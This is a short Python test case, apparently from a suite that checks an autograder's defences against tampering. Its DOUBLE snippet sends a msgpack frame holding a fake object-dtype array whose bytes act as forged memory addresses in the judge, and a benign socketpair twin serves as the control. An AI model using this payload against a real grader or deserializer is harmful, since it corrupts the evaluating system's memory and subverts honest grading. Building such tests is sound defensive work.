"""An array of dtype object whose bytes are addresses in the judge's memory."""

from autograde.attacks import ON_THE_WIRE, Attack, Work

DOUBLE = """
def double(x):
    content = msgpack.packb(["|O8", [4], b"AAAAAAAA" * 4])
    say(frame({"value": msgpack.ExtType(5, content)}))
    time.sleep(60)
"""

TWIN_OWN = """
import socket
import struct

import msgpack

one, two = socket.socketpair()
one.sendall(struct.pack("!I", 3) + msgpack.packb([1, 2]))
print(len(two.recv(100)))
one.close()
two.close()
"""

attack = Attack(
    Work(own=ON_THE_WIRE, double=DOUBLE), twin=Work(own=TWIN_OWN), outcome="tampering", suspected=True
)
